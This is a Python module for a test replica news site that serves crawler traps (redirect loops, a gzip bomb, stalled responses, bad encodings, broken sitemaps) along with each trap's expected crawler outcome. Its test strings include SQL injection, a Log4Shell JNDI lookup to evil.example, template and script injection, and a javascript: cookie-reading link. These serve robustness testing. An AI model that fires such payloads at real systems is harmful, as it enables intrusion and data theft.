"""Trap mode of the replica (`ReplicaConfig(traps=True)`, `replica serve --traps`): the same site, plus links to
misbehaving URLs, and the catalogue of those traps with the outcome a well-behaved crawler should produce.

The traps hang off the English (www.) edition. Article-like ones sit under /world/2026/11/19/trap-<name>/, so that a
crawler recognising permalinks really tries them; they are linked from the home page, the World listing, the trap
sitemap (listed in /wp-sitemap.xml) and /feed/. robots.txt gains a Disallow: line and an off-site Sitemap: line. Every
request the server receives is logged (TrapSite.log), so tests can prove a URL was never requested.

API: `TRAPS` maps each trap's name to a Trap (its paths, linked off-site URLs, URLs never to be requested, the expected
outcome, the crawler settings it assumes, and for article traps the title and paragraphs to store). A trap-mode
Replica's `traps` attribute is a TrapSite: `.urls(name, port)`, `.forbidden_urls(name, port)`, `.hits(path, host)`
and `.log` (every request received); it is None when trap mode is off.

Block mode (`ReplicaConfig(block_user_agent="EUReporterArchiveBot")`, `replica serve --block-ua`) is separate: every
response to a User-Agent containing that string is 403, as the live site's WAF did to a link checker.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING
from urllib.parse import parse_qs

from replica import hostile, media
from replica.feeds import robots_txt, urlset
from replica.routes import HTML, Page

if TYPE_CHECKING:
    from collections.abc import Mapping
    from datetime import datetime

    from replica.site import Replica, Response
    from replica.theme import Edition

TRAP_DAY = "/world/2026/11/19/"
RETRY_AFTER_SECONDS = 2
RETRY_AFTER_FAILURES = 2
"""The first two requests for the Retry-After trap get 503 (RETRY_TIMES=2 would allow three attempts)."""
SLOW_HEADERS_SECONDS = 5.0
STALL_SECONDS = 30.0
LOOP_MAX = 100
"""The self-referencing sitemap index also lists itself with ?loop=N+1, up to this N."""
XML = "application/xml; charset=UTF-8"
RSS = "application/rss+xml; charset=UTF-8"


def trap_path(slug: str) -> str:
    return f"{TRAP_DAY}trap-{slug}/"


@dataclass(frozen=True, slots=True)
class Trap:
    """One trap: where it is, who links to it, and what a correct crawler does with it.

    URL templates (`offsite`, `forbidden`) contain `{www}` (the www. edition's origin with port), `{port}` (":PORT"
    or "") and `{domain}`; Trap.urls() and Trap.forbidden_urls() fill them in.
    """

    name: str
    paths: tuple[str, ...]
    """Paths on the www. host that the trap serves (and, for article-like traps, that pages link to)."""
    outcome: str
    """The expected crawler behaviour, in one line."""
    linked_from: tuple[str, ...] = ("home", "category", "sitemap", "feed")
    offsite: tuple[str, ...] = ()
    """Off-site URL templates the pages link to."""
    forbidden: tuple[str, ...] = ()
    """URL templates a correct crawler never requests (robots.txt, off-site, redirect targets)."""
    settings: tuple[str, ...] = ()
    """Crawler settings the outcome assumes, as `-s NAME=VALUE` pairs."""
    title: str = ""
    """For article traps: the headline a correct crawler stores."""
    paragraphs: tuple[str, ...] = ()
    """For article traps: the body paragraphs a correct crawler stores, in order."""

    def urls(self, domain: str = "eureporter.test", port: int | None = None) -> list[str]:
        """Absolute URLs of `paths` (on the www. host) and of the `offsite` links."""
        www = _www(domain, port)
        return [www + path for path in self.paths] + [_fill(t, domain, port) for t in self.offsite]

    def forbidden_urls(self, domain: str = "eureporter.test", port: int | None = None) -> list[str]:
        return [_fill(template, domain, port) for template in self.forbidden]

    @property
    def is_article(self) -> bool:
        return bool(self.title)


def _www(domain: str, port: int | None) -> str:
    return f"http://www.{domain}" + (f":{port}" if port else "")


def _fill(template: str, domain: str, port: int | None) -> str:
    return template.format(www=_www(domain, port), port=f":{port}" if port else "", domain=domain)


_SQL_TITLE = (
    "O'Brien's \"EU\" deal'; DROP TABLE articles; -- \" OR 1=1 \\ 100% off_under_score 🇪🇺🔥 מה נשמע مرحبا بالعالم"
)
_SQL_PARAGRAPHS = (
    "The minister's reply was: Robert'); DROP TABLE articles; -- and nobody in the chamber laughed.",
    "A search for \" OR 1=1 -- and ' OR ''=' returned every row, said the 100% certain auditor.",
    'Backslashes \\ and \\" escapes, C:\\Users\\eu\\ and LIKE patterns such as %_% or 50%_off matched too.',
    "Emoji 🇪🇺🔥😀 and right-to-left text, مرحبا بالعالم and שלום עולם, must survive the round trip intact.",
    "Tom & Jerry wrote ${jndi:ldap://evil.example/a}, {{7*7}} and <script>alert(1)</script> as plain text.",
)

TRAPS: dict[str, Trap] = {
    trap.name: trap
    for trap in (
        Trap(
            "robots-disallowed",
            (trap_path("robots-disallowed"),),
            "robots.txt disallows it: never requested",
            forbidden=("{www}" + trap_path("robots-disallowed"),),
            title="This article is disallowed by robots.txt",
            paragraphs=("A polite crawler never fetches this page, although every discovery source links to it.",),
        ),
        Trap(
            "offsite",
            (),
            "off-site links in pages, the sitemaps, the feed and robots.txt: never requested, counted",
            linked_from=("home", "category", "sitemap", "feed", "robots.txt", "sitemap index"),
            offsite=(
                "http://evil.example" + trap_path("offsite"),
                "http://www.{domain}.evil.example{port}" + trap_path("offsite-lookalike"),
                "http://www.eutoday.test{port}" + trap_path("offsite-sister"),
                "http://shop.{domain}{port}" + trap_path("offsite-subdomain"),
            ),
            forbidden=(
                "http://evil.example" + trap_path("offsite"),
                "http://www.{domain}.evil.example{port}" + trap_path("offsite-lookalike"),
                "http://www.eutoday.test{port}" + trap_path("offsite-sister"),
                "http://shop.{domain}{port}" + trap_path("offsite-subdomain"),
                "http://evil.example/wp-sitemap.xml",
                "http://evil.example/wp-sitemap-posts-post-1.xml",
                "http://evil.example" + trap_path("feed-offsite"),
            ),
        ),
        Trap(
            "gzip-bomb",
            (trap_path("gzip-bomb"),),
            f"Content-Encoding: gzip inflating to {hostile.BOMB_INFLATED_BYTES} bytes: the compressed original is "
            "archived or the response skipped with a log line; counted; the crawl continues",
        ),
        Trap(
            "oversized",
            (trap_path("oversized"),),
            f"{hostile.OVERSIZED_BYTES} bytes uncompressed: over DOWNLOAD_MAXSIZE=2000000, skipped with a log line "
            "and counted (a normal article under larger limits)",
            settings=("DOWNLOAD_MAXSIZE=2000000",),
            title="An oversized page with a short article",
            paragraphs=("Megabytes of padding follow this paragraph in an HTML comment.",),
        ),
        Trap(
            "redirect-loop",
            (trap_path("redirect-loop-a"), trap_path("redirect-loop-b")),
            "A -> B -> A (302): stops, logged, counted; nothing stored",
        ),
        Trap(
            "redirect-offsite",
            (trap_path("redirect-offsite"),),
            "301 to evil.example: the redirect is not followed, logged, counted",
            forbidden=("http://evil.example" + trap_path("redirect-offsite"),),
        ),
        Trap(
            "redirect-subdomain",
            (trap_path("redirect-subdomain"),),
            "301 to shop.DOMAIN (inside allowed_domains, outside the site's editions): not followed, counted",
            forbidden=("http://shop.{domain}{port}" + trap_path("redirect-subdomain"),),
        ),
        Trap(
            "retry-after",
            (trap_path("retry-after"),),
            f"503 with Retry-After: {RETRY_AFTER_SECONDS} for the first {RETRY_AFTER_FAILURES} requests, then 200: "
            f"each retry waits at least {RETRY_AFTER_SECONDS} s, then the article is stored",
            title="Retry-After was honoured before this article appeared",
            paragraphs=(
                "The server asked for patience twice with 503 Service Unavailable and a Retry-After header.",
                "A crawler that waited as asked stores this paragraph on its third attempt.",
            ),
        ),
        Trap(
            "slow-headers",
            (trap_path("slow-headers"),),
            f"status line after {SLOW_HEADERS_SECONDS:g} s: times out under DOWNLOAD_TIMEOUT=2, counted, the crawl "
            "continues",
            settings=("DOWNLOAD_TIMEOUT=2",),
        ),
        Trap(
            "stalled-body",
            (trap_path("stalled-body"),),
            f"headers and half the body, then {STALL_SECONDS:g} s of silence: times out under DOWNLOAD_TIMEOUT=2, "
            "counted, crawl continues",
            settings=("DOWNLOAD_TIMEOUT=2",),
        ),
        Trap(
            "cp1252-undeclared",
            (trap_path("cp1252-undeclared"),),
            "windows-1252 bytes, no charset in HTTP or HTML: stored with the right characters",
            title="Café owners in Zürich pay €5 more: “unfair”, says the mayor’s office",
            paragraphs=(
                "The café association’s spokeswoman, Renée Müller, called the €5 levy “a tax on breakfast”.",
                "Über 200 cafés signed the petition; naïve hopes of a quick reversal were dashed — for now.",
                "Prices rose by 3 ‰ in a year… and the “Grüezi” sign in the window now costs extra.",
            ),
        ),
        Trap(
            "cp1252-mislabelled",
            (trap_path("cp1252-mislabelled"),),
            "windows-1252 bytes, HTTP and <meta> both say utf-8: stored with the right characters",
            title="Brüssel’s “grand café” débâcle costs €12 million",
            paragraphs=(
                "Auditors found that the “grand café” in the Berlaymont cost €12 million, not €1.2 million.",
                "The contractor’s invoice, written in Dutch and Français, listed “crème brûlée” twice.",
            ),
        ),
        Trap("empty", (trap_path("empty"),), "200, text/html, Content-Length: 0: counted, no row, no crash"),
        Trap("pdf", (trap_path("pdf"),), "application/pdf behind an article URL: counted, no row, no crash"),
        Trap("jpeg", (trap_path("jpeg"),), "image/jpeg behind an article URL: counted, no row, no crash"),
        Trap(
            "broken-markup",
            (trap_path("broken-markup"),),
            "NUL bytes, unclosed tags, no end of document: stored without NULs, paragraphs intact",
            title="Broken markup still carries a readable article",
            paragraphs=(
                "Member states agreed on Tuesday to extend the programme until 2030 at the latest.",
                "The Commission said the decision was final, but several capitals disagreed openly.",
                "Negotiations will resume in January, officials in Brussels said on condition of anonymity.",
            ),
        ),
        Trap(
            "sql-metacharacters",
            (trap_path("sql-metacharacters"),),
            "quotes, SQL and LIKE metacharacters, backslashes, emoji, RTL text: title and text stored verbatim",
            title=_SQL_TITLE,
            paragraphs=_SQL_PARAGRAPHS,
        ),
        Trap(
            "sitemap-truncated",
            ("/wp-sitemap-trap-truncated-1.xml",),
            "urlset cut off mid-<loc>: counted as invalid, no crash",
            linked_from=("sitemap index",),
        ),
        Trap(
            "sitemap-wrong-namespace",
            ("/wp-sitemap-trap-wrongns-1.xml",),
            "urlset in the XHTML namespace: no crash",
            linked_from=("sitemap index",),
        ),
        Trap(
            "sitemap-huge",
            ("/wp-sitemap-trap-huge-1.xml",),
            f"{hostile.HUGE_SITEMAP_URLS} in-scope entries (~6 MB), a few real articles, the rest non-article "
            "pages: parsed in bounded time, no crash",
            linked_from=("sitemap index",),
        ),
        Trap(
            "sitemap-loop",
            ("/wp-sitemap-trap-loop.xml",),
            f"a sitemap index listing itself, and itself with ?loop=N+1 (up to {LOOP_MAX}): bounded, counted",
            linked_from=("sitemap index",),
        ),
        Trap(
            "sitemap-html",
            ("/wp-sitemap-trap-html-1.xml",),
            "an HTML page (text/html) where a sitemap should be: counted as invalid, no crash",
            linked_from=("sitemap index",),
        ),
        Trap(
            "feed-garbage",
            ("/feed/",),
            "items without <link>, with javascript:/mailto:/blank/10 KB/off-site links, an undefined entity: no "
            "crash, off-site counted, nothing but http(s) requested",
            linked_from=(),
            forbidden=("http://evil.example" + trap_path("feed-offsite"),),
        ),
    )
}

# Article-like traps offered by the home page, the World listing, the trap sitemap and the feed.
_LINKED = [name for name, trap in TRAPS.items() if "home" in trap.linked_from]
_TRAP_SITEMAPS = [path for trap in TRAPS.values() if trap.name.startswith("sitemap-") for path in trap.paths]
_DECORATED_LISTINGS = ("/", "/world/", "/category/world/")


@dataclass(frozen=True, slots=True)
class Hit:
    """One request the trap-mode server received."""

    method: str
    host: str
    target: str
    user_agent: str
    at: float
    """time.time() when it arrived."""


@dataclass
class TrapSite:
    """The trap-mode layer in front of a Replica: answers trap URLs, decorates the pages that link to them, logs."""

    site: Replica
    log: list[Hit] = field(default_factory=list)
    _counts: dict[str, int] = field(default_factory=dict)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    # --- API for tests ----------------------------------------------------------------------------------------------
    @staticmethod
    def catalogue() -> dict[str, Trap]:
        return dict(TRAPS)

    def urls(self, name: str, port: int | None = None) -> list[str]:
        return TRAPS[name].urls(self.site.domain, port)

    def forbidden_urls(self, name: str, port: int | None = None) -> list[str]:
        return TRAPS[name].forbidden_urls(self.site.domain, port)

    def hits(self, path: str, host: str | None = None) -> list[Hit]:
        """Requests received for a path (query string ignored), optionally on one host name (without port)."""
        return [
            hit
            for hit in list(self.log)
            if hit.target.partition("?")[0] == path and (host is None or hit.host.partition(":")[0] == host)
        ]

    # --- HTTP -------------------------------------------------------------------------------------------------------
    def handle(self, method: str, host: str, target: str, request: Mapping[str, str]) -> Response | None:
        """The response to a trap URL or a decorated page, or None to let the normal site answer."""
        from replica.site import normalize_path

        self.log.append(Hit(method.upper(), host.strip().lower(), target, request.get("user-agent", ""), time.time()))
        hostname, _, port = host.strip().lower().partition(":")
        if hostname != f"www.{self.site.domain}" or method.upper() not in ("GET", "HEAD"):
            return None
        suffix = f":{port}" if port else ""
        if target.startswith(("http://", "https://")):
            target = "/" + target.split("/", 3)[3] if target.count("/") >= 3 else "/"
        raw_path, _, query = target.partition("#")[0].partition("?")
        path = normalize_path(raw_path)
        ed = self.site._edition("en", suffix)
        answer = self._answer(method.upper(), ed, suffix, path, query)
        if answer is None or isinstance(answer, tuple):
            return answer
        from replica.site import _Entry

        return self.site._respond(method.upper(), _Entry(answer), dict(request), path)

    def _answer(self, method: str, ed: Edition, suffix: str, path: str, query: str) -> Page | Response | None:
        www = ed.base
        if path == "/robots.txt":
            disallow = f"Disallow: {trap_path('robots-disallowed')}\n"
            robots = robots_txt(www).replace("\n\nSitemap:", f"\n{disallow}\nSitemap:")
            robots += "Sitemap: http://evil.example/wp-sitemap.xml\n"
            return Page(200, "text/plain; charset=UTF-8", robots.encode())
        if path == "/wp-sitemap.xml":
            normal = self.site.router.route(ed, path, None, None).body
            extra = [www + p for p in _TRAP_SITEMAPS] + [www + "/wp-sitemap-trap-articles-1.xml"]
            extra.append("http://evil.example/wp-sitemap-posts-post-1.xml")
            entries = b"".join(b"<sitemap><loc>%s</loc></sitemap>" % url.encode() for url in extra)
            return Page(200, XML, hostile.insert_before_last(normal, b"</sitemapindex>", entries))
        if path == "/feed/":
            page = self.site.router.route(ed, path, None, None)
            items = hostile.feed_items(self._feed_items(ed, suffix)).encode()
            return Page(200, RSS, hostile.insert_before_last(page.body, b"</channel>", items), chunked=True, feed=True)
        if path in _DECORATED_LISTINGS and not query:  # /?s= and /?p= stay the normal site's
            page = self.site.router.route(ed, path, None, None)
            if page.status != 200 or page.location is not None:
                return page
            block = hostile.link_block(self._links(ed, suffix))
            return Page(200, page.content_type, hostile.insert_before_last(page.body, b"</body>", block), chunked=True)
        if path.startswith("/wp-sitemap-trap-"):
            return self._sitemap(ed, suffix, path, query)
        if path.startswith(TRAP_DAY + "trap-"):
            return self._article_trap(method, ed, suffix, path)
        return None

    # --- decorations ------------------------------------------------------------------------------------------------
    def _links(self, ed: Edition, suffix: str) -> list[tuple[str, str]]:
        links: list[tuple[str, str]] = []
        for name in _LINKED:
            trap = TRAPS[name]
            title = trap.title or f"Trap: {name.replace('-', ' ')}"
            links.extend((url, title) for url in trap.urls(self.site.domain, _port(suffix)))
        return links

    def _feed_items(self, ed: Edition, suffix: str) -> list[tuple[str, str | None]]:
        items: list[tuple[str, str | None]] = [(title, url) for url, title in self._links(ed, suffix)]
        items += [
            ("An item without a link", None),
            ("A javascript: link", "javascript:alert(document.cookie)"),
            ("A mailto: link", "mailto:newsroom@eureporter.co?subject=hi"),
            ("A blank link", "   \n\t  "),
            ("A ten-kilobyte link", ed.base + "/world/2026/11/19/" + "x" * 10_000 + "/"),
            ("An off-site item", "http://evil.example" + trap_path("feed-offsite")),
            ("An undefined entity &nbsp; in XML", ed.base + trap_path("sql-metacharacters") + "&nbsp;"),
            ("A data: URL", "data:text/html,<h1>hi</h1>"),
        ]
        return items

    def _sitemap(self, ed: Edition, suffix: str, path: str, query: str) -> Page | None:
        www = ed.base
        posts = self.site.corpus.posts
        real = [(www + post.path, post.modified) for post in posts[-3:]]
        if path == "/wp-sitemap-trap-articles-1.xml":
            entries: list[tuple[str, datetime | None]] = [(url, None) for url, _ in self._links(ed, suffix)]
            return Page(200, XML, urlset(entries).encode())
        if path == "/wp-sitemap-trap-truncated-1.xml":
            return Page(200, XML, hostile.truncated_sitemap(real))
        if path == "/wp-sitemap-trap-wrongns-1.xml":
            return Page(200, XML, hostile.wrong_namespace_sitemap(real))
        if path == "/wp-sitemap-trap-huge-1.xml":
            body = hostile.huge_sitemap(www, [url for url, _ in real], self.site.corpus.last_modified)
            return Page(200, XML, body)
        if path == "/wp-sitemap-trap-loop.xml":
            values = parse_qs(query).get("loop", ["1"])
            depth = int(values[0]) if values[0].isdigit() else 1
            locs = [www + path]
            if depth < LOOP_MAX:
                locs.append(f"{www}{path}?loop={depth + 1}")
            return Page(200, XML, hostile.sitemap_index(locs))
        if path == "/wp-sitemap-trap-html-1.xml":
            return Page(200, HTML, self.site.router.route(ed, "/", None, None).body)
        return None

    # --- article-like traps -----------------------------------------------------------------------------------------
    def _count(self, key: str) -> int:
        with self._lock:
            self._counts[key] = self._counts.get(key, 0) + 1
            return self._counts[key]

    def _article_trap(self, method: str, ed: Edition, suffix: str, path: str) -> Page | Response | None:
        name = path[len(TRAP_DAY + "trap-") : -1]
        www, common = ed.base, self.site._common()
        post_id = 900_000 + sorted(TRAPS).index(name) if name in TRAPS else 0
        trap = TRAPS.get(name)

        def article(charset: str | None = "UTF-8") -> str:
            assert trap is not None
            return hostile.article_html(www, path, trap.title, trap.paragraphs, post_id=post_id, charset=charset)

        if name in ("redirect-loop-a", "redirect-loop-b"):
            other = trap_path("redirect-loop-b" if name.endswith("-a") else "redirect-loop-a")
            return _redirect(302, common, www + other)
        if name == "redirect-offsite":
            return _redirect(301, common, "http://evil.example" + path)
        if name == "redirect-subdomain":
            return _redirect(301, common, f"http://shop.{self.site.domain}{suffix}{path}")
        if trap is None or name in ("offsite",):
            return None
        if name == "robots-disallowed":
            return Page(200, HTML, article().encode())
        if name == "gzip-bomb":
            bomb = hostile.gzip_bomb()
            headers = [*common, ("Content-Type", HTML), ("Content-Encoding", "gzip"), ("Vary", "Accept-Encoding"),
                       ("Content-Length", str(len(bomb)))]  # fmt: skip
            return 200, headers, b"" if method == "HEAD" else bomb
        if name == "oversized":
            body = hostile.oversized_article(www, path, trap.title, trap.paragraphs, post_id=post_id)
            return Page(200, HTML, body, compressible=False)
        if name == "retry-after":
            if self._count(f"{suffix}{path}") <= RETRY_AFTER_FAILURES:
                body = hostile.error_page(503, "Service Temporarily Unavailable", "Please retry later.")
                headers = [*common, ("Retry-After", str(RETRY_AFTER_SECONDS)), ("Content-Type", HTML),
                           ("Content-Length", str(len(body)))]  # fmt: skip
                return 503, headers, b"" if method == "HEAD" else body
            return Page(200, HTML, article().encode())
        if name in ("slow-headers", "stalled-body"):
            page = hostile.article_html(www, path, f"Trap: {name}", ("Nobody should wait this long.",) * 40,
                                        post_id=post_id).encode()  # fmt: skip
            headers = [*common, ("Content-Type", HTML), ("Content-Length", str(len(page)))]
            if method == "HEAD":
                return 200, headers, b""
            if name == "slow-headers":
                return 200, headers, hostile.Paced(page, delay=SLOW_HEADERS_SECONDS)
            return 200, headers, hostile.Paced(page, stall_after=len(page) // 2, stall=STALL_SECONDS)
        if name == "cp1252-undeclared":
            body = hostile.cp1252_article(www, path, trap.title, trap.paragraphs, post_id=post_id, meta=None)
            return Page(200, "text/html", body)
        if name == "cp1252-mislabelled":
            body = hostile.cp1252_article(www, path, trap.title, trap.paragraphs, post_id=post_id, meta="utf-8")
            return Page(200, "text/html; charset=utf-8", body)
        if name == "empty":
            return Page(200, HTML, b"", compressible=False)
        if name == "pdf":
            return Page(200, "application/pdf", hostile.pdf_document(), compressible=False)
        if name == "jpeg":
            return Page(200, "image/jpeg", media.jpeg(path), compressible=False)
        if name == "broken-markup":
            body = hostile.broken_article_html(www, path, trap.title, trap.paragraphs, post_id=post_id)
            return Page(200, HTML, body)
        if name == "sql-metacharacters":
            return Page(200, HTML, article().encode())
        return None


def _port(suffix: str) -> int | None:
    return int(suffix[1:]) if suffix else None


def _redirect(status: int, common: list[tuple[str, str]], location: str) -> Response:
    return status, [*common, ("Location", location), ("Content-Type", HTML), ("Content-Length", "0")], b""


def blocked(common: list[tuple[str, str]], method: str) -> Response:
    """What a WAF answers a blocked User-Agent: 403 with its own small page, on every URL."""
    body = hostile.error_page(403, "Forbidden", "Access denied: your browser or bot is not allowed on this site.")
    headers = [*common, ("Content-Type", HTML), ("Content-Length", str(len(body)))]
    return 403, headers, b"" if method.upper() == "HEAD" else body
